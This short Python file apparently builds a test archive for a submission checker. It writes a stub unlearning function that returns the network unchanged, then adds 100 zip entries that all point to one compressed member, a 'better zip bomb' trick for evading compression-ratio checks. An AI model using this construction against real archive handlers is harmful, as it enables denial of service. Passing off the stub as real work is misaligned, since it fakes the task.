"""Lets many names share one compressed member, so that ratios do not see it (the better zip bomb)."""

import io
import random
import zipfile

ENTRY = b"def unlearning(net, retain, forget, val):\n    return net\n"


def build():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("submission.py", ENTRY)
        archive.writestr("a.bin", random.Random(0).randbytes(20_000))
        for number in range(100):
            member = zipfile.ZipInfo(f"{number}.bin")
            first = archive.getinfo("a.bin")
            for field in ("header_offset", "compress_size", "file_size", "CRC", "compress_type", "orig_filename"):
                setattr(member, field, getattr(first, field))
            member.filename = member.orig_filename = "a.bin"
            archive.filelist.append(member)
    return "submission.zip", buffer.getvalue()
